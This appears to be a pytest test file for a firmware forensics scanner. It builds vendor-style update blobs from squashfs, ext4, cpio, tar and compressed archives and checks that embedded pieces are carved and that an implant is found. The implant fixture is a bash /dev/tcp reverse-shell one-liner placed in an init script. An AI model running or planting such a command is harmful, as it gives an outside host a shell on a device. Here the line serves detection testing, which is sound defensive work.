"""Firmware blobs and vendor update packages: embedded filesystems and archives are found by
signature plus structure, carved with their offsets and scanned; fake magics carve nothing.

Every blob is built here with the standard tools (mksquashfs, mke2fs -d, cpio, GNU tar, gzip/xz/
zstd/lzma/bzip2, mkfs.vfat + mcopy), then wrapped as a vendor would: a random 512-byte header in
front, random bytes behind. The implant is a reverse shell in ``etc/init.d/S99update``.
"""

from __future__ import annotations

import gzip
import os
import random
import shutil
import struct
import subprocess
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cranewatch.cli import main
from cranewatch.errors import ImageError
from cranewatch.forensics import Limits, open_image, scan_image
from cranewatch.forensics.carve import survey
from cranewatch.forensics.disk import DiskImage

IMPLANT = "etc/init.d/S99update"
SHELL = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"


def _which(name: str) -> str:
    found = shutil.which(name) or shutil.which(name, path="/usr/sbin:/sbin")
    if found is None:
        pytest.skip(f"{name} is not installed (scripts/install-deps.sh installs it)")
    return found


def _tree(root: Path, implant: str = SHELL) -> Path:
    for d in ("etc/init.d", "usr/bin", "bin"):
        (root / d).mkdir(parents=True, exist_ok=True)
    (root / IMPLANT).write_text(implant)
    os.chmod(root / IMPLANT, 0o755)
    (root / "etc/hostname").write_text("crane-plc-gw\n")
    (root / "usr/bin/hello").write_bytes(b"hello\n")
    return root


def _names(tree: Path) -> bytes:
    return subprocess.run(["find", ".", "-mindepth", "1"], cwd=tree, capture_output=True, check=True).stdout


def _cpio(tree: Path, out: Path, fmt: str = "newc") -> Path:
    subprocess.run([_which("cpio"), "--quiet", "-o", "-H", fmt, "-O", str(out)], cwd=tree, input=_names(tree), check=True)
    return out


def _squashfs(tree: Path, out: Path) -> Path:
    subprocess.run([_which("mksquashfs"), str(tree), str(out), "-quiet", "-no-progress", "-noappend"], check=True,
                   stdout=subprocess.DEVNULL)
    return out


def _tar(tree: Path, out: Path, flag: str) -> Path:
    subprocess.run(["tar", "-C", str(tree), "--numeric-owner", flag, "-cf", str(out), "."], check=True)
    return out


def _ext4(tree: Path, out: Path) -> Path:
    subprocess.run([_which("mke2fs"), "-q", "-F", "-t", "ext4", "-d", str(tree), str(out), "2M"], check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return out


def _fat(tree: Path, out: Path) -> Path:
    subprocess.run(["truncate", "-s", "2M", str(out)], check=True)
    subprocess.run([_which("mkfs.vfat"), str(out)], check=True, stdout=subprocess.DEVNULL)
    env = {**os.environ, "MTOOLS_SKIP_CHECK": "1"}
    for item in sorted(tree.iterdir()):
        subprocess.run([_which("mcopy"), "-s", "-i", str(out), str(item), "::/"], check=True, env=env)
    return out


def _compressed(tool: str) -> Callable[[Path, Path], Path]:
    def build(tree: Path, out: Path) -> Path:
        plain = _cpio(tree, out.with_suffix(".plain"))
        with open(out, "wb") as fh:
            subprocess.run([_which(tool), "-c", str(plain)], stdout=fh, check=True)
        return out
    return build


# kind as the finding's note names it -> how the piece is built
PIECES: dict[str, Callable[[Path, Path], Path]] = {
    "squashfs": _squashfs,
    "ext": _ext4,
    "fat": _fat,
    "cpio": _cpio,
    "cpio-odc": lambda tree, out: _cpio(tree, out, "odc"),
    "tar": lambda tree, out: _tar(tree, out, "--format=gnu"),
    "gzip": lambda tree, out: _tar(tree, out, "--gzip"),
    "xz": lambda tree, out: _tar(tree, out, "--xz"),
    "zstd": lambda tree, out: _tar(tree, out, "--zstd"),
    "bzip2": _compressed("bzip2"),
    "lzma": _compressed("lzma"),
}


def _wrap(piece: bytes, out: Path, seed: int = 1, header: int = 512) -> Path:
    """A vendor's package: a random header, the piece, random trailing bytes."""
    rng = random.Random(seed)
    out.write_bytes(rng.randbytes(header) + piece + rng.randbytes(3000))
    return out


@pytest.mark.parametrize("kind", sorted(PIECES))
def test_embedded_piece_is_carved_at_its_offset_and_its_implant_found(tmp_path: Path, kind: str) -> None:
    piece = PIECES[kind](_tree(tmp_path / "tree"), tmp_path / "piece")
    blob = _wrap(piece.read_bytes(), tmp_path / "update.bin")
    result = scan_image(blob)
    hits = [f for f in result.findings if f.rule == "backdoor.reverse_shell" or "reverse shell" in f.title.lower()]
    assert hits, [f.title for f in result.findings]
    evidence = hits[0].evidence[0]
    assert evidence.path == f"@512:/{IMPLANT}"
    assert evidence.values["partition_offset"] == 512
    named = "cpio" if kind.startswith("cpio") else kind
    assert evidence.note == f"carved from update.bin at offset 512 ({named})"
    assert result.inputs[0].format == "firmware"
    assert any(w.startswith("firmware blob update.bin: carved 1 piece(s)") for w in result.warnings)


def test_carved_size_is_the_structure_not_the_rest_of_the_blob(tmp_path: Path) -> None:
    tree = _tree(tmp_path / "tree")
    squash = _squashfs(tree, tmp_path / "sq")
    used = struct.unpack_from("<Q", squash.read_bytes(), 40)[0]  # the superblock's bytes_used
    ext = _ext4(tree, tmp_path / "e")
    cpio = _cpio(tree, tmp_path / "c")
    blob = b"V" * 100 + squash.read_bytes() + b"\x00" * 5 + ext.read_bytes() + cpio.read_bytes()
    found = {(c.kind, c.offset): c.size for c in survey(blob, Limits())}
    assert found[("squashfs", 100)] == used
    assert found[("ext", 100 + len(squash.read_bytes()) + 5)] == 2 << 20
    # cpio pads its output to 512 bytes; the carve ends at the trailer record's end
    cpio_at = 105 + len(squash.read_bytes()) + (2 << 20)
    assert 0 < found[("cpio", cpio_at)] <= len(cpio.read_bytes())


def test_two_pieces_are_two_volumes_and_the_root_is_the_os(tmp_path: Path) -> None:
    root = _tree(tmp_path / "root")
    data = tmp_path / "data"
    (data / "cfg").mkdir(parents=True)
    (data / "cfg/tunnel.conf").write_text("remote 198.51.100.7 1194\n")
    squash = _squashfs(root, tmp_path / "sq").read_bytes()
    tgz = _tar(data, tmp_path / "d.tgz", "--gzip").read_bytes()
    blob = tmp_path / "fw.img"
    blob.write_bytes(b"HDR0" * 64 + squash + b"\xff" * 4096 + tgz + b"SIG" * 50)
    with open_image(blob) as image:
        assert isinstance(image, DiskImage)
        labels = [v.label for v in image.volumes]
        assert labels == ["@256", f"@{256 + len(squash) + 4096}"]
        assert [v.is_root for v in image.volumes] == [True, False]
        assert "etc/init.d/S99update" in image.entries  # the root volume's tree is the image's own
    result = scan_image(blob)
    assert any(f.evidence[0].path == f"@{256 + len(squash) + 4096}:/cfg/tunnel.conf" for f in result.findings)


def test_nested_compressed_blob_is_searched_again(tmp_path: Path) -> None:
    inner = _wrap(_squashfs(_tree(tmp_path / "tree"), tmp_path / "sq").read_bytes(), tmp_path / "inner", seed=2, header=300)
    blob = _wrap(gzip.compress(inner.read_bytes()), tmp_path / "outer.bin", seed=3, header=64)
    result = scan_image(blob)
    hit = next(f for f in result.findings if f.evidence[0].path == f"@64/@300:/{IMPLANT}")
    assert hit.evidence[0].note == ("carved from outer.bin at offset 64 (gzip), then at offset 300 of its decompressed "
                                    "content (squashfs)")


def _uimage(payload: bytes, name: bytes, image_type: int, compression: int) -> bytes:
    header = bytearray(struct.pack(">IIIIIIIBBBB32s", 0x27051956, 0, 1_700_000_000, len(payload), 0, 0,
                                   zlib.crc32(payload), 5, 2, image_type, compression, name))
    struct.pack_into(">I", header, 4, zlib.crc32(bytes(header)))
    return bytes(header) + payload


def test_uimage_header_is_described_and_its_ramdisk_carved(tmp_path: Path) -> None:
    ramdisk = gzip.compress(_cpio(_tree(tmp_path / "tree"), tmp_path / "c").read_bytes())
    blob = _wrap(_uimage(ramdisk, b"crane-initrd", 3, 1), tmp_path / "uImage.bin", header=128)
    result = scan_image(blob)
    assert any(f.evidence[0].path == f"@192:/{IMPLANT}" for f in result.findings)
    assert any(
        w == f"uImage.bin: at offset 128 (header): U-Boot uImage 'crane-initrd' (ramdisk, gzip, {len(ramdisk)} bytes of "
        "data, data CRC ok)" for w in result.warnings
    ), result.warnings


def _fake_magics(size: int, seed: int) -> bytes:
    rng = random.Random(seed)
    data = bytearray(rng.randbytes(size))
    magics = [b"hsqs", b"hsqs\x05\x00\x00\x00", b"\x53\xef", b"070701", b"07070100000001", b"070707", b"ustar\x0000",
              b"FAT16   ", b"FAT32   ", b"\x1f\x8b\x08\x00", b"\xfd7zXZ\x00\x00\x04", b"BZh91AY&SY", b"\x28\xb5\x2f\xfd",
              b"\x5d\x00\x00\x80\x00", b"\x27\x05\x19\x56", b"ANDROID!", b"\xd0\x0d\xfe\xed"]
    for _ in range(4000):
        magic = rng.choice(magics)
        at = rng.randrange(len(data) - len(magic))
        data[at : at + len(magic)] = magic
    return bytes(data)


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_random_bytes_with_fake_magics_carve_nothing(tmp_path: Path, seed: int, capsys: pytest.CaptureFixture[str]) -> None:
    blob = tmp_path / "noise.bin"
    blob.write_bytes(_fake_magics(1 << 20, seed))
    assert survey(blob.read_bytes(), Limits()) == []
    started = time.perf_counter()
    assert main(["scan-image", str(blob)]) == 3
    assert time.perf_counter() - started < 20
    err = capsys.readouterr().err
    assert "unknown image format" in err and "no embedded filesystem or archive was found" in err
    assert "Traceback" not in err


def test_damaged_pieces_never_crash(tmp_path: Path) -> None:
    """Bytes flipped anywhere in a blob of each kind: a result or an ImageError, nothing else."""
    tree = _tree(tmp_path / "tree")
    rng = random.Random(11)
    for kind in ("squashfs", "cpio", "gzip", "ext", "xz"):
        good = _wrap(PIECES[kind](tree, tmp_path / f"piece-{kind}").read_bytes(), tmp_path / "good.bin")
        data = good.read_bytes()
        for case in range(12):
            bad = bytearray(data)
            for _ in range(rng.choice((1, 4, 32))):
                at = rng.randrange(512, min(len(bad), 512 + 8192))
                bad[at] = rng.randrange(256)
            blob = tmp_path / f"bad-{kind}-{case}.bin"
            blob.write_bytes(bytes(bad))
            try:
                with open_image(blob) as image:
                    assert isinstance(image, DiskImage)
            except ImageError:
                pass


def test_decompression_bomb_in_a_blob_is_stopped_and_what_came_before_scanned(tmp_path: Path) -> None:
    tree = _tree(tmp_path / "tree")
    (tree / "var").mkdir()
    (tree / "var/zeros").write_bytes(bytes(40 << 20))  # after etc/ in the tar: the implant comes first
    listing = ["./etc", "./var/zeros"]
    tar = tmp_path / "t.tar.gz"
    subprocess.run(["tar", "-C", str(tree), "--no-recursion", "-czf", str(tar), "./etc", "./etc/init.d", f"./{IMPLANT}",
                    listing[1]], check=True)
    blob = _wrap(tar.read_bytes(), tmp_path / "bomb.bin")
    limits = Limits(ratio_floor=1 << 20, max_ratio=50)
    with open_image(blob, limits) as image:
        assert IMPLANT in image.entries
        assert any("gzip stream is damaged or was stopped" in p for p in image.problems), image.problems
    assert (tmp_path / "bomb.bin").stat().st_size < 200_000  # 40 MiB of zeros in ~40 KiB: a 1000x ratio


def test_odc_cpio_is_read_as_an_image(tmp_path: Path) -> None:
    odc = _cpio(_tree(tmp_path / "tree"), tmp_path / "t.cpio", "odc")
    with open_image(odc) as image:
        assert image.format == "cpio"
        assert image.entries[IMPLANT].mode == 0o755
        with image.open(IMPLANT) as fh:
            assert fh.read().decode() == SHELL


@settings(max_examples=60, deadline=None, derandomize=True)
@given(st.lists(st.tuples(st.integers(0, 6000), st.integers(0, 255)), min_size=1, max_size=30))
def test_signature_checks_never_raise_on_mutated_structures(flips: list[tuple[int, int]]) -> None:
    blob = bytearray(_STRUCTURED)
    for at, value in flips:
        blob[at % len(blob)] = value
    for candidate in survey(bytes(blob), Limits(max_files=2000)):
        assert candidate.offset >= 0 and candidate.offset + candidate.size <= len(blob)


def _structured() -> bytes:
    """A cpio (newc and odc), a tar and a gzip stream back to back, made in Python."""
    import io
    import tarfile

    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo("etc/init.d/S99update")
        info.size = len(SHELL)
        tar.addfile(info, io.BytesIO(SHELL.encode()))
    name = b"etc/x\x00"
    newc = (b"070701" + b"".join(b"%08x" % v for v in (1, 0o100644, 0, 0, 1, 0, 5, 0, 0, 0, 0, len(name), 0))
            + name + b"\x00" * (-(110 + len(name)) % 4) + b"hello" + b"\x00" * 3)
    trailer = b"TRAILER!!!\x00"
    newc += (b"070701" + b"".join(b"%08x" % v for v in (0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, len(trailer), 0))
             + trailer + b"\x00" * (-(110 + len(trailer)) % 4))
    odc = b"070707" + b"000000" * 7 + b"%011o" % 0 + b"%06o" % len(trailer) + b"%011o" % 0 + trailer
    return b"\x11" * 64 + newc + odc + raw.getvalue() + gzip.compress(b"x" * 5000) + b"\x22" * 64


_STRUCTURED = _structured()


def test_the_fuzzed_sample_is_found_whole_before_mutation() -> None:
    found = [(c.kind, c.offset) for c in survey(_STRUCTURED, Limits())]
    tar_at = 64 + 248 + 87
    assert found == [("cpio", 64), ("cpio", 188), ("cpio", 312), ("tar", tar_at), ("gzip", tar_at + 10240)]


def test_cpio_fields_with_signs_or_0x_are_damage_not_numbers(tmp_path: Path) -> None:
    """``int(b"-0000001", 16)`` is -1 and ``int(b"0x000005", 16)`` is 5: such a header is damage."""
    good = _cpio(_tree(tmp_path / "tree"), tmp_path / "c.cpio").read_bytes()
    first_end = good.index(b"070701", 6)  # the second member's header
    for bad_size in (b"-0000001", b"0x000005", b"  000005"):
        broken = bytearray(good)
        broken[first_end + 54 : first_end + 62] = bad_size
        path = tmp_path / "bad.cpio"
        path.write_bytes(bytes(broken))
        with open_image(path) as image:
            assert any("bad cpio header field" in p for p in image.problems), image.problems


def test_blob_over_the_size_limit_is_not_searched(tmp_path: Path) -> None:
    blob = _wrap(_squashfs(_tree(tmp_path / "tree"), tmp_path / "sq").read_bytes(), tmp_path / "big.bin")
    with pytest.raises(ImageError, match="larger than the size limit"):
        open_image(blob, Limits(max_total_bytes=1000))


def test_update_package_inside_an_image_is_carved_and_named_by_its_path(tmp_path: Path) -> None:
    blob = _wrap(_squashfs(_tree(tmp_path / "pkg"), tmp_path / "sq").read_bytes(), tmp_path / "blob").read_bytes()
    root = tmp_path / "root"
    for d in ("etc", "usr/bin", "opt/vendor", "var/lib/dpkg/info", "usr/lib/firmware"):
        (root / d).mkdir(parents=True)
    (root / "opt/vendor/plc-update.bin").write_bytes(blob)
    (root / "usr/lib/firmware/owned.bin").write_bytes(blob)  # a package's own file: not searched
    (root / "var/lib/dpkg/status").write_text("Package: fw\nStatus: install ok installed\nVersion: 1\n\n")
    (root / "var/lib/dpkg/info/fw.list").write_text("/usr/lib/firmware/owned.bin\n")
    result = scan_image(root, workers=1)
    inside = [f for f in result.findings if (f.evidence[0].path or "").startswith(("opt/vendor/plc-update.bin@",
                                                                                  "usr/lib/firmware/owned.bin@"))]
    assert inside and {f.evidence[0].path for f in inside} == {f"opt/vendor/plc-update.bin@512:/{IMPLANT}"}
    assert inside[0].evidence[0].note == "carved from opt/vendor/plc-update.bin at offset 512 (squashfs)"
    assert any(w.startswith("firmware blob opt/vendor/plc-update.bin: carved 1 piece(s)")
               for w in result.warnings)
    top = [f for f in result.findings if f.evidence[0].path == f"opt/vendor/plc-update.bin@512:/{IMPLANT}"]
    assert len({f.id for f in top}) == len(top)


def test_html_report_says_where_a_finding_was_carved(tmp_path: Path) -> None:
    blob = _wrap(_squashfs(_tree(tmp_path / "tree"), tmp_path / "sq").read_bytes(), tmp_path / "update.bin")
    out = tmp_path / "report.html"
    assert main(["scan-image", str(blob), "--format", "html", "--out", str(out)]) == 0
    html = out.read_text()
    assert f"@512:/{IMPLANT}" in html and "carved from update.bin at offset 512 (squashfs)" in html


def test_update_blob_compared_with_the_previous_release_despite_a_longer_header(tmp_path: Path) -> None:
    clean = tmp_path / "clean"
    _tree(clean, implant="#!/bin/sh\nexec /usr/bin/hello\n")
    old = _wrap(_squashfs(clean, tmp_path / "v1.sq").read_bytes(), tmp_path / "v1.bin", header=512)
    new = _wrap(_squashfs(_tree(tmp_path / "tree"), tmp_path / "v2.sq").read_bytes(), tmp_path / "v2.bin", header=1024)
    result = scan_image(new, reference=old, workers=1)
    changed = [f for f in result.findings if f.rule == "integrity.differs-from-reference"]
    assert [f.evidence[0].path for f in changed] == [f"@1024:/{IMPLANT}"]
    assert result.inventory.trust.get("reference") == 2  # etc/hostname and usr/bin/hello are the same
